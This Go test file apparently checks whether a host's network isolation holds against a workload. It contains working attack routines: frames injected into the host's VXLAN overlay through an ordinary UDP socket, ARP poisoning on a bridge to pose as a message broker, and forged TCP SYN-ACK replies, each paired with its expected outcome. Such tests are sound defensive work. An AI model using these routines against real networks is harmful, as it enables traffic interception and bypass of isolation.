package bypass

import (
	"encoding/binary"
	"errors"
	"net"
	"net/netip"
	"slices"
	"testing"
	"time"

	"github.com/google/nftables"
	"github.com/vishvananda/netlink"
	"golang.org/x/sys/unix"
)

// networks: what the host's own network does for a workload.
var networks = []vector{
	{name: "a service address of the host's, at another port", own: true, stage: service, want: refused,
		attack: toService},
	{name: "a service address of the host's, at another port, on the host", from: onHost, own: true, stage: service,
		want: refused, attack: toService},
	{name: "a service address of the host's, at another port, behind a bridge", from: inBridgedPod, own: true,
		stage: service, want: refused, attack: toService},
	// The device is there before the node: one that comes later is noticed a moment after it came.
	{name: "VXLAN made by hand, to the host's VXLAN device", own: true, stage: vxlan, want: refused, attack: overVXLAN,
		unguarded: true, meanwhile: started},
	{name: "ARP on a bridge that says to be the broker", as: netRaw, from: inBridgedPod, own: true, want: reached,
		raced:        true,
		uncontrolled: "it is for what the node sends", attack: poisons,
		hole: "a broker and workloads on one bridge, in plaintext, is a network that cannot be trusted"},
	{name: "packet sockets on a macvlan device of the host's", as: netRaw, from: onMacvlan, own: true, want: reached,
		attack: byOwnAddress,
		hole:   "like those of a VM they do not pass the host's netfilter; containers with veth devices"},
}

// serviceAddress is one that the host translates, as kube-proxy does for a ClusterIP.
var serviceAddress = netip.MustParseAddr("10.98.7.7")

func service(t testing.TB, s *scene) {
	err := s.host.do(func() error {
		to := append(hasPort(destinationPort, otherPort), translate(broker4)...)
		return errors.Join(route(netip.PrefixFrom(serviceAddress, 32), broker4),
			rules(nftables.TableFamilyIPv4, natPrerouting, to),
			rules(nftables.TableFamilyIPv4, natOutput, to))
	})
	if err != nil {
		t.Fatal(err)
	}
}

func toService(a *attacker) error { return a.toOther(serviceAddress) }

// The host's end of an overlay network, as CNI plugins have it. Anybody who can send it UDP is a member.
var (
	vxlanHost, vxlanOther = netip.MustParseAddr("10.94.0.1"), netip.MustParseAddr("10.94.0.2")
	vxlanMAC              = net.HardwareAddr{2, 0, 0, 0, 94, 1}
	vxlanOtherMAC         = net.HardwareAddr{2, 0, 0, 0, 94, 2}
)

const (
	vxlanPort = 4789
	vxlanID   = 1
)

func vxlan(t testing.TB, s *scene) {
	err := s.host.do(func() error {
		attrs := netlink.NewLinkAttrs()
		attrs.Name, attrs.HardwareAddr = "vxlan", vxlanMAC
		device := &netlink.Vxlan{LinkAttrs: attrs, VxlanId: vxlanID, Port: vxlanPort, Learning: true}
		if err := netlink.LinkAdd(device); err != nil {
			return err
		}
		return errors.Join(address("vxlan", []netip.Prefix{netip.PrefixFrom(vxlanHost, 24)}), up("vxlan"),
			netlink.NeighSet(&netlink.Neigh{LinkIndex: indexOf("vxlan"), IP: vxlanOther.AsSlice(),
				HardwareAddr: vxlanOtherMAC, State: netlink.NUD_PERMANENT}))
	})
	if err != nil {
		t.Fatal(err)
	}
}

// overVXLAN needs no right at all: a UDP socket carries frames that come out of the host's device.
func overVXLAN(a *attacker) error {
	fd, err := socket(unix.AF_INET, unix.SOCK_DGRAM, 0)
	if err != nil {
		return err
	}
	defer func() { _ = unix.Close(fd) }()
	if err := unix.Bind(fd, sockaddr(netip.AddrPortFrom(a.Own4, vxlanPort))); err != nil {
		return err
	}
	wait := unix.NsecToTimeval(int64(50 * time.Millisecond))
	if err := unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &wait); err != nil {
		return err
	}
	const header, ethernet = 8, 14
	head := []byte{1 << 3, 0, 0, 0, 0, 0, vxlanID, 0} // RFC 7348
	return a.converse(conversation{from: netip.AddrPortFrom(vxlanOther, handPort), to: a.to,
		send: func(p []byte) error {
			frame := slices.Concat(head, vxlanMAC, vxlanOtherMAC, []byte{8, 0}, p)
			return unix.Sendto(fd, frame, 0, sockaddr(netip.AddrPortFrom(a.Gateway4, vxlanPort)))
		},
		receive: func() ([]byte, error) {
			p, err := readPacket(fd)
			if len(p) < header+ethernet || binary.BigEndian.Uint16(p[header+12:]) != unix.ETH_P_IP {
				return nil, err
			}
			return p[header+ethernet:], err
		}})
}

// poisons tells the host that the broker's address is here, and answers in the broker's place the node.
func poisons(a *attacker) error {
	a.to = at(bridged4)
	device, err := net.InterfaceByName(a.Device)
	if err != nil {
		return err
	}
	ear, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, int(network16(unix.ETH_P_ALL)))
	if err != nil {
		return err
	}
	defer func() { _ = unix.Close(ear) }()
	wait := unix.NsecToTimeval(int64(50 * time.Millisecond))
	if err := unix.SetsockoptTimeval(ear, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &wait); err != nil {
		return err
	}
	to, err := a.neighbour(bridgeHost4, unix.ETH_P_ARP)
	if err != nil {
		return err
	}
	const reply = 2
	claim := slices.Concat(to.Addr[:6], device.HardwareAddr, []byte{8, 6, 0, 1, 8, 0, 6, 4, 0, reply},
		device.HardwareAddr, bridged4.AsSlice(), to.Addr[:6], bridgeHost4.AsSlice())
	connected := make(chan error, 1)
	begin := time.AfterFunc(arpLockTime, func() { connected <- a.plain(a.to) })
	defer begin.Stop()
	answer := func(p []byte) error {
		return unix.Sendto(ear, slices.Concat(to.Addr[:6], device.HardwareAddr, []byte{8, 0}, p), 0, to)
	}
	for {
		select {
		case err := <-connected:
			return err
		default:
		}
		if err := unix.Sendto(ear, claim, 0, to); err != nil {
			return err
		}
		if f, err := readPacket(ear); err != nil {
			return err
		} else if len(f) > 14 {
			if err := a.impersonate(f[14:], answer); err != nil {
				return err
			}
		}
	}
}

// arpLockTime is how long Linux believes what it was told last (neigh/default/locktime), and somewhat more.
const arpLockTime = 1200 * time.Millisecond

// impersonate answers a packet of the host's to the broker.
func (a *attacker) impersonate(packet []byte, answer func([]byte) error) error {
	p, is := parse(packet)
	if !is || p.from.Addr() != bridgeHost4 || p.to != at(bridged4) {
		return nil
	}
	if p.flags&tcpSYN == 0 {
		a.got = append(a.got, p.payload...)
		return nil
	}
	tcp := packet[packet[0]&0xf*4:]
	return answer(segment(p.to, p.from, 1, binary.BigEndian.Uint32(tcp[4:])+1, tcpSYN|tcpACK, nil))
}
